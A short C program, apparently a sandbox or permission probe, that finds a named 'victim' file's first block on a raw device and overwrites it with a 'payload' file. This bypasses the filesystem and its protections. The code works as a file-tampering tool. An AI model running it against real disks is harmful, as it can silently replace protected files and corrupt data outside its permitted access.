/* rawpatch DEVICE VICTIM PAYLOAD: find VICTIM's first block on DEVICE (a filesystem image) and
 * write PAYLOAD's bytes there, beneath the filesystem and its page cache. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#define BLOCK 1024
int main(int argc, char **argv) {
    if (argc != 4) return 2;
    int victim = open(argv[2], O_RDONLY), payload = open(argv[3], O_RDONLY);
    if (victim < 0 || payload < 0) { perror("open"); return 2; }
    char first[BLOCK], block[BLOCK];
    if (read(victim, first, BLOCK) != BLOCK) return 2;
    int dev = open(argv[1], O_RDWR);
    if (dev < 0) { printf("open-device-errno=%d (%s)\n", errno, strerror(errno)); return 1; }
    off_t at = 0;
    while (pread(dev, block, BLOCK, at) == BLOCK) {
        if (!memcmp(block, first, BLOCK)) {
            char buf[65536];
            ssize_t n;
            off_t out = at;
            while ((n = read(payload, buf, sizeof buf)) > 0) {
                if (pwrite(dev, buf, n, out) != n) { printf("write-device-errno=%d (%s)\n", errno, strerror(errno)); return 1; }
                out += n;
            }
            fsync(dev);
            printf("patched-at=%lld\n", (long long)at);
            return 0;
        }
        at += BLOCK;
    }
    puts("victim-not-found");
    return 1;
}
